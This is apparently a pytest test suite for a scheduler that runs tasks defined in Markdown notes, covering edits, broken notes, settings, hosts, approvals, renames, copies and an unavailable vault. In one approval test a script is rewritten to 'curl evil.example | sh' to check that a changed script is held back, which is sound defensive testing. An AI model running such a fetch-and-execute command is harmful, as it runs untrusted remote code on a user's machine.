"""What the notes say: half-typed edits, broken notes, renames, copies, hosts, and a vault that is away."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from vault_scheduler.daemon import task_notes
from vault_scheduler.executors.base import RunRequest
from vault_scheduler.notes.note import Document
from vault_scheduler.parsing.parser import ParseContext, Parsed, parse_task
from vault_scheduler.run import Outcome, Result
from vault_scheduler.testing_world import SETTINGS, World

MakeWorld = Callable[..., World]


def runs_on(_: RunRequest) -> None:
    """Attempts go on until the test ends them."""


# edits


def test_half_typed_edit_does_not_run(world: World) -> None:
    """While somebody types, the old definition stays in force; the new one counts once the note is left alone."""
    world.command("a", 'cron: "0 12 * * *"')
    world.start()
    world.edit("a", "echo a", "echo")
    world.edit("a", "0 12", "* *")  # would fire each minute
    for _ in range(30):
        world.advance(5)
        world.edit("a", "command: echo", "command: echo ")
    assert world.history() == []
    world.edit("a", "* * * * *", "5 10 * * *")
    world.advance_to("10:04")
    assert world.survey.settled("00_system/tasks/a.md")
    world.advance_to("10:06")
    assert world.history() == ["10:05 success"]


def test_run_that_is_due_waits_for_the_edit(world: World) -> None:
    """What comes due while the note is edited starts when the note is left alone, as the note says then."""
    world.command("a", 'cron: "10 10 * * *"')
    world.start()
    world.advance_to("10:09:58")
    world.edit("a", "echo a", "echo b")
    world.advance_to("10:10:05")
    assert world.history() == ["10:10 waiting"]
    world.advance_to("10:10:10")
    assert world.history() == ["10:10 success"]
    assert world.engine.submitted[-1].action["command"] == "echo b"


def test_run_waits_no_longer_than_a_minute_for_an_edit(world: World) -> None:
    """A note that is never left alone runs as it was last left."""
    world.command("a", 'cron: "10 10 * * *"')
    world.start()
    world.advance_to("10:09:58")
    for _ in range(20):
        world.edit("a", "command: echo", "command: echo ")
        world.advance(4)
    run = world.runs()[0]
    assert run.started_at is not None
    assert 59 <= (run.started_at - run.fire_time).total_seconds() <= 61
    assert world.engine.submitted[-1].action["command"] == "echo a"


@pytest.mark.parametrize("change", ["pause", "stop", "delete", "pause until"])
def test_pausing_counts_at_once(world: World, change: str) -> None:
    """A second before the fire time is early enough to hold a task back, in the middle of another edit too."""
    world.command("a", 'cron: "10 10 * * *"\nstatus: active')
    world.start()
    world.advance_to("10:09:58")
    world.edit("a", "echo a", "echo half typ")
    if change == "delete":
        world.delete("a")
    else:
        values = {"pause": "paused", "stop": "stopped", "pause until": "active\npaused_until: 2026-11-21"}
        world.edit("a", "status: active", f"status: {values[change]}")
    world.advance_to("10:30")
    assert world.history() == []


def test_garbage_in_a_pause_does_not_end_it(world: World) -> None:
    """While a `paused_until` is being retyped the task stays paused."""
    world.command("a", "every: 1m\npaused_until: 2026-11-21\nstatus: active")
    world.start()
    world.edit("a", "2026-11-21", "2026-1")
    world.advance(300)
    assert [run.outcome for run in world.runs()] == []


def test_unknown_status_changes_nothing(world: World) -> None:
    """`status: faok`, as two writers that are merged make it, neither starts nor stops anything at once."""
    world.command("a", "every: 1m\nstatus: paused")
    world.start()
    world.edit("a", "status: paused", "status: pauactive")
    world.advance(300)
    assert world.history() == []


def test_invalid_edit_keeps_the_last_good_one_for_a_minute(world: World) -> None:
    """After a minute fire times end blocked, in one row, and other tasks go on; once repaired it runs again."""
    world.command("a", "every: 20s")
    world.command("b", "every: 1m")
    world.start()
    world.edit("a", "every: 20s", "every: 20s\ntimeout: never")
    world.advance(185)
    assert world.history("a") == [
        "10:00:20 success",
        "10:00:40 success",
        "10:01 success",
        "10:01:20-10:03 blocked 6: the note is invalid",
    ]
    assert [run.outcome for run in world.runs("b")] == [Outcome.SUCCESS] * 3
    assert world.log().count("is not a duration") == 1
    world.edit("a", "\ntimeout: never", "")
    world.advance(20)
    assert world.history("a")[-1] == "10:03:20 success"


def test_suspend_during_the_grace_loses_no_fire_time(world: World) -> None:
    """What came due while the machine slept over the end of the grace ends blocked, too."""
    world.command("a", "every: 1m")
    world.start()
    world.edit("a", "every: 1m", "every: 1m\ntimeout: never")
    world.advance(30)
    world.suspend(600)
    assert sum(run.count for run in world.runs()) == 10
    assert world.runs()[-1].outcome is Outcome.BLOCKED


def test_invalid_note_is_blocked_after_a_restart_too(world: World) -> None:
    """The ledger remembers what the note was before, so that its fire times are not silently dropped."""
    world.command("a", "every: 10m")
    world.start()
    world.stop()
    world.edit("a", "every: 10m", "every: 10m\ntimeout: never")
    world.clock.advance(60)
    world.start()
    world.advance_to("10:25")
    assert world.history() == ["10:10-10:20 blocked 2: the note is invalid"]


@pytest.mark.parametrize("data", [b"", b"just text\n", b"---\ntype: command\n", b"\x00\x00\x00"])
def test_former_task_without_frontmatter_is_a_problem(world: World, data: bytes) -> None:
    """An emptied note, one without fences or with an open one is no removal: its fire times end blocked."""
    world.command("a", "every: 10m")
    world.start()
    world.put("a", data)
    world.advance_to("10:25")
    assert world.history() == ["10:10-10:20 blocked 2: the note is invalid"]
    assert [problem.path for problem in world.daemon.problems()] == ["00_system/tasks/a.md"]


def test_truncated_read_is_not_believed(world: World) -> None:
    """An editor that truncates and writes within a second changes nothing at all."""
    world.command("a", "every: 10m")
    world.start()
    whole = world.path("a").read_bytes()
    for _ in range(10):
        world.put("a", b"")
        world.advance(0.2)
        world.put("a", whole[:20])
        world.advance(0.2)
        world.put("a", whole)
        world.advance(1)
    assert world.daemon.problems() == []
    world.advance_to("10:15")
    assert world.history() == ["10:10 success"]


def test_own_write_is_no_edit(world: World) -> None:
    """What the scheduler writes into a note neither delays a run nor moves the watermark."""
    world.command("a", "every: 12s")
    world.start()
    world.advance(600)
    assert len(world.runs()) == 50
    assert all(run.started_at == run.fire_time for run in world.runs())
    assert "## Runs" in world.text("a")


def test_ordinary_note_is_left_alone(world: World) -> None:
    """A page of text below the tasks folder is neither task nor problem."""
    world.put("readme", b"# Tasks\n\nWhat lies here.\n", age_s=60)
    world.start()
    world.advance(60)
    assert world.daemon.problems() == []
    assert world.path("readme").read_bytes() == b"# Tasks\n\nWhat lies here.\n"


def test_unreadable_note_is_blocked_and_comes_back(world: World) -> None:
    """A note that cannot be read keeps its last good definition for a minute; it runs again when it can be."""
    world.command("a", "every: 10m")
    world.start()
    text = world.path("a").read_bytes()
    world.path("a").unlink()
    world.path("a").mkdir()
    world.hint(world.path("a"))
    world.advance_to("10:15")
    assert world.history() == ["10:10 blocked 1: the note is invalid"]
    world.path("a").rmdir()
    world.put("a", text, age_s=600)
    world.advance_to("10:35")
    assert world.history()[1:] == ["10:20 success", "10:30 success"]
    assert world.daemon.problems() == []


# the settings note


@pytest.mark.parametrize("data", [b"", b"garbage", b"---\nstatus: stopped\n", b"---\nmax_parallel: many\n---\n", None])
def test_broken_settings_change_nothing(world: World, data: bytes | None) -> None:
    """A truncated, broken or missing settings note is a problem; the last good settings hold, after a restart too."""
    world.write_settings("host: here\nmax_parallel: 1\ntimezone: Asia/Tokyo", age_s=3600)
    world.command("a", 'cron: "30 18 * * *"')  # 10:30 in Berlin
    world.start()
    if data is None:
        world.settings_file.unlink()
    else:
        world.settings_file.write_bytes(data)
    world.hint(world.settings_file)
    world.advance_to("10:25")
    assert [problem.path for problem in world.daemon.problems()] == ["00_system/scheduler.md"]
    world.restart(after_s=60)
    world.advance_to("10:35")
    assert world.history() == ["10:30 success"]
    assert [problem.path for problem in world.daemon.problems()] == ["00_system/scheduler.md"]
    world.write_settings("host: here\nstatus: paused")
    world.advance(60)
    assert world.daemon.problems() == []
    assert world.stands("a") == "paused"


def test_settings_that_never_were_good_start_nothing(make_world: MakeWorld) -> None:
    """Until the settings note is repaired nothing starts, and requests are refused with the reason."""
    world = make_world(settings="max_parallel: many")
    world.command("a", "every: 1m")
    world.start()
    world.advance(300)
    assert world.history() == []
    assert "settings" in world.request("run", "a")["refused"]
    world.write_settings(SETTINGS)
    world.advance_to("10:10:30")
    assert world.history()[-1] == "10:10 success"


def test_another_zone_counts_for_every_task(world: World) -> None:
    """The vault's zone is the zone of the tasks that name none, and a change of it is a change of their triggers."""
    world.command("a", 'cron: "0 12 * * *"')
    world.command("b", 'cron: "0 12 * * *"\ntimezone: Europe/Berlin')
    world.start()
    world.write_settings("host: here\ntimezone: Europe/London")
    world.advance_to("13:30")
    assert world.history() == ["12:00 success", "13:00 success"]


# host


def test_note_without_host_gets_ours(make_world: MakeWorld) -> None:
    """The first daemon writes its machine into the settings note, and leaves everything else there alone."""
    world = make_world(settings="# mine\nstatus: active")
    world.command("a", "every: 10m")
    world.start()
    assert world.settings_file.read_text() == "---\n# mine\nstatus: active\nhost: here\n---\n"
    world.advance_to("10:15")
    assert world.history() == ["10:10 success"]


def test_other_host_is_silent(world: World) -> None:
    """On a machine that does not own the vault, or a task, nothing runs and no note is touched."""
    world.write_settings("host: there", age_s=3600)
    world.command("a", "every: 10m\nrun_now: true")
    before = world.path("a").read_bytes()
    world.start()
    world.advance_to("11:00")
    assert world.history() == []
    assert world.path("a").read_bytes() == before
    assert world.stands("a") == "other-host"


def test_task_with_a_host_of_its_own(world: World) -> None:
    """A task's `host` wins over the vault's."""
    world.write_settings("host: there", age_s=3600)
    world.command("a", "every: 10m\nhost: here")
    world.command("b", "every: 10m")
    world.start()
    world.advance_to("10:15")
    assert [run.task for run in world.runs()] == ["a"]


@pytest.mark.parametrize("down", [False, True])
def test_take_over_makes_up_for_nothing(world: World, down: bool) -> None:
    """What came due before the vault was moved here was the other machine's."""
    world.write_settings("host: there", age_s=3600)
    world.command("a", "every: 10m")
    world.command("b", "at: 2026-11-20T10:30")
    world.start()
    if down:
        world.stop()
        world.clock.advance(3600)
        world.write_settings("host: here")
        world.start()
    else:
        world.advance(3600)
        world.write_settings("host: here")
    world.advance_to("11:15")
    assert world.history() == ["11:10 success"]


# approvals


def test_an_approval_counts_at_once(world: World) -> None:
    """What is held is told once in the daily log, though it never fires; approved, it runs when it is asked for."""
    world.trust_mode = world.trust_mode.PINNED
    world.command("a", 'cron: "0 0 29 2 *"')
    world.start()
    world.advance(120)
    log = "".join(path.read_text() for path in (world.root / "00_system/logs").glob("*.md"))
    assert log.count("vault-sched approve a") == 1
    assert world.request("run", "a")["refused"]
    world.trust.approve("a", world.trust.holds()["a"].hash, world.clock.now())
    assert "refused" not in world.request("run", "a")
    world.advance(1)
    assert [words.split()[1] for words in world.history()] == ["success"]


def test_a_changed_script_waits_for_approval_too(world: World) -> None:
    """With `trust = "pinned"` what a task executes is pinned with it: a change is held although no note changed."""
    world.trust_mode = world.trust_mode.PINNED
    script = world.root / "tools/sync.sh"
    script.parent.mkdir()
    script.write_text("true")
    world.write("a", 'type: command\ncron: "*/10 * * * *"\ncommand: sh tools/sync.sh')
    world.start()
    world.trust.approve("a", world.trust.holds()["a"].hash, world.clock.now())
    world.advance(11 * 60)
    script.write_text("curl evil.example | sh")
    world.advance(10 * 60)
    assert [words.split()[1] for words in world.history()] == ["success", "blocked"]
    assert world.stands("a") == "held"


# renames, copies, duplicates


@pytest.mark.parametrize("down", [False, True], ids=["awake", "down meanwhile"])
def test_rename_keeps_identity(world: World, down: bool) -> None:
    """History, watermark and pin follow a note to its new name."""
    world.trust_mode = world.trust_mode.PINNED
    world.command("a", 'cron: "0 * * * *"')
    world.start()
    world.trust.approve("a", world.trust.holds()["a"].hash, world.clock.now())
    world.restart(after_s=60)
    world.advance_to("11:30")
    if down:
        world.stop()
    world.rename("a", "sub/b")
    if down:
        world.clock.advance(3600)
        world.start()
    world.advance(2)
    assert [run.task for run in world.runs()] == ["sub/b"] * len(world.runs())
    world.advance_to("13:10")
    assert world.history() == ["11:00 success", "12:00 success", "13:00 success"]
    assert world.stands("a") == ""


def test_a_renamed_task_that_was_set_going_again_has_no_failures(world: World) -> None:
    """Failures before a person set the task active again do not count, whatever its note is called now."""
    world.command("a", "every: 10m\npause_after: 3\nstatus: active")
    world.script = lambda request: Result(outcome=Outcome.FAILURE, reason="exit 1")
    world.start()
    world.advance_to("10:35")
    world.edit("a", "status: paused", "status: active")
    world.advance(30)
    world.rename("a", "b")
    world.advance_to("10:55")
    assert world.stands("b") == "armed"
    world.advance_to("11:05")
    assert world.stands("b") == "paused"


def test_a_renamed_task_is_not_started_again_by_a_restart_at_once(world: World) -> None:
    """The ten minutes between two starts with the daemon follow a rename."""
    world.command("a", "on_start: true")
    world.start()
    world.advance(60)
    world.rename("a", "b")
    world.advance(60)
    world.restart()
    world.advance(5)
    assert world.history() == ["10:00 success"]


def test_renamed_folder_of_equal_notes(world: World) -> None:
    """Notes that say the same keep apart when their folder is renamed."""
    for name in ("one", "two", "three"):
        world.write(f"x/{name}", "type: command\ncommand: echo\nevery: 10m")
    world.start()
    world.advance_to("10:15")
    before = {run.task.split("/")[1]: run.id for run in world.runs()}
    world.stop()
    (world.tasks / "x").rename(world.tasks / "y")
    world.start()
    world.advance(1)
    assert {run.task: run.id for run in world.runs()} == {f"y/{name}": run for name, run in before.items()}
    assert world.daemon.problems() == []


def test_checkout_swaps_many_notes(world: World) -> None:
    """Notes that go and come again within seconds, and others that take their names, run once each."""
    for number in range(20):
        world.command(f"t{number}", "every: 10m")
    world.start()
    texts = [world.path(f"t{number}").read_bytes() for number in range(20)]
    for number in range(20):
        world.delete(f"t{number}")
    world.advance(3)
    for number in range(20):
        world.put(f"t{number}", texts[(number + 1) % 20])
    world.advance_to("10:25")
    assert world.daemon.problems() == []
    for number in range(20):
        assert world.history(f"t{number}") == ["10:10 success", "10:20 success"]


def test_copy_never_runs(world: World) -> None:
    """A copy that a sync program or a file manager made is a problem, whatever happens to the original."""
    world.command("a", "every: 10m")
    world.start()
    world.put("a 1", world.path("a").read_bytes())
    world.advance_to("10:15")
    assert [run.task for run in world.runs()] == ["a"]
    world.restart(after_s=10)
    world.edit("a", "echo a", "echo b")
    world.advance_to("10:25")
    world.restart(after_s=10)
    world.stop()
    world.rename("a", "b")
    world.clock.advance(30)
    world.start()
    world.advance_to("10:35")
    assert {run.task for run in world.runs()} == {"b"}
    assert [problem.path for problem in world.daemon.problems()] == ["00_system/tasks/a 1.md"]


def test_copy_that_was_there_at_the_first_start(world: World) -> None:
    """Whichever is read first, the original is the task."""
    for name in ("b 1", "b", "b copy"):
        world.write(name, "type: command\ncommand: echo\nevery: 10m")
    world.start()
    world.advance_to("10:15")
    assert [run.task for run in world.runs()] == ["b"]


def test_copy_that_a_sync_program_brings_first(world: World) -> None:
    """Only one of them runs, whichever came first."""
    world.start()
    for name in ("b 1", "b", "b copy"):
        world.write(name, "type: command\ncommand: echo\nevery: 10m", age_s=0)
        world.advance(30)
    world.advance_to("10:15")
    world.restart(after_s=10)
    world.advance_to("10:25")
    assert [run.task for run in world.runs()] == ["b 1", "b 1"]
    assert len(world.daemon.problems()) == 2


def test_copy_runs_once_it_is_edited_or_alone(world: World) -> None:
    """A copy that does something else is a task; so is one whose original was deleted."""
    world.command("a", "every: 10m")
    world.start()
    for name in ("a 1", "a 2"):
        world.put(name, world.path("a").read_bytes())
    world.advance(60)
    world.edit("a 1", "echo a", "echo c")
    world.advance_to("10:15")
    assert sorted(run.task for run in world.runs()) == ["a", "a 1"]
    world.delete("a")
    world.advance_to("10:25")
    assert sorted(run.task for run in world.runs()) == ["a", "a 1", "a 1", "a 2"]
    assert world.daemon.problems() == []


def test_duplicate_id(world: World) -> None:
    """Of two notes with one id the first keeps it, after a restart too; the other is a problem until it is alone."""
    world.command("z", "every: 10m\nid: same")
    world.start()
    world.command("a", "every: 10m\nid: same", age_s=0)
    world.advance_to("10:15")
    world.restart(after_s=30)
    world.advance_to("10:25")
    assert [(run.task, run.path) for run in world.runs()] == [("same", "00_system/tasks/z.md")] * 2
    assert [problem.path for problem in world.daemon.problems()] == ["00_system/tasks/a.md"]
    world.delete("z")
    world.advance_to("10:35")
    assert world.runs()[-1].path == "00_system/tasks/a.md"
    assert world.daemon.problems() == []


@pytest.mark.parametrize("down", [False, True], ids=["awake", "restarted meanwhile"])
def test_name_of_a_new_note_that_is_the_id_of_another(world: World, down: bool) -> None:
    """The task that gave itself the id keeps it; only the note whose path happens to say the same is a problem."""
    world.command("long name", "every: 10m\nid: a")
    world.start()
    if down:
        world.stop()
    world.command("a", "every: 10m", age_s=0)
    if down:
        world.start()
    for time in ("10:15", "10:25"):
        world.advance_to(time)
        assert [problem.path for problem in world.daemon.problems()] == ["00_system/tasks/a.md"]
        world.restart()
    world.advance_to("10:35")
    assert [(run.task, run.path) for run in world.runs()] == [("a", "00_system/tasks/long name.md")] * 3
    assert world.stands("a") == "armed"


def test_conflict_copies_are_never_scheduled(world: World) -> None:
    """Names that sync programs give to conflicts are neither tasks nor problems."""
    world.command("a", "every: 10m")
    for name in ("a.sync-conflict-20261120-101500-ABCDEFG", "a (conflicted copy 2026-11-20 101500)", ".hidden"):
        world.put(name, world.path("a").read_bytes(), age_s=60)
    world.start()
    world.advance_to("10:15")
    assert [run.task for run in world.runs()] == ["a"]
    assert world.daemon.problems() == []


def test_deleted_and_created_again(world: World) -> None:
    """A note that comes back after a while makes up for nothing."""
    world.command("a", "every: 10m")
    world.start()
    text = world.path("a").read_bytes()
    world.delete("a")
    world.advance_to("10:35")
    world.put("a", text)
    world.advance_to("10:45")
    assert world.history() == ["10:40 success"]


# the vault goes away


@pytest.mark.parametrize("down", [False, True], ids=["awake", "restarted meanwhile"])
def test_vault_that_is_away(world: World, down: bool) -> None:
    """While the vault is away nothing starts; when it is back, what came due is made up for, nothing else is lost."""
    world.command("a", 'cron: "*/10 * * * *"')
    world.command("b", 'cron: "*/10 * * * *"\ncatch_up: all')
    world.start()
    world.advance_to("10:15")
    world.take_vault_away()
    world.advance_to("10:45")
    assert len(world.engine.submitted) == 2
    if down:
        world.stop()
        world.start()
        world.advance(60)
    world.bring_vault_back()
    world.advance(15)
    assert world.history("a")[1:] == ["10:20-10:30 missed 2: the vault was away", "10:40 success"]
    assert world.history("b") == [f"{time} success" for time in ("10:10", "10:20", "10:30", "10:40")]
    assert world.daemon.problems() == []


def test_waiting_run_starts_when_the_vault_is_back(world: World) -> None:
    """A claimed run waits for its vault, it is not called deleted."""
    world.write_settings("host: here\nmax_parallel: 1", age_s=3600)
    world.script = runs_on
    world.command("a", 'cron: "10 10 * * *"')
    world.command("b", 'cron: "11 10 * * *"')
    world.start()
    world.advance_to("10:12")
    world.take_vault_away()
    world.engine.finish("a")
    world.advance(60)
    assert world.history() == ["10:10 success", "10:11 waiting"]
    world.bring_vault_back()
    world.advance(60)
    assert world.history() == ["10:10 success", "10:11 running"]
    assert "10:10" in world.text("a")


# one edit, one task


def test_edit_of_one_task_touches_that_task_only(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    """Among a thousand tasks an edit parses one note, and the others are not looked at."""
    for number in range(1000):
        world.command(f"t{number:03}", 'cron: "0 3 * * *"\nnext_run: 2026-11-21T03:00:00')
    world.start()
    parsed: list[str] = []

    def counted(document: Document, path: str, context: ParseContext) -> Parsed:
        parsed.append(path)
        return parse_task(document, path, context)

    monkeypatch.setattr(task_notes, "parse_task", counted)
    world.edit("t500", "0 3", "11 10")
    world.advance_to("10:12")
    assert world.history() == ["10:11 success"]
    assert set(parsed) == {"00_system/tasks/t500.md"}
    assert len(parsed) <= 4  # the edit, and our own writes of what became of it
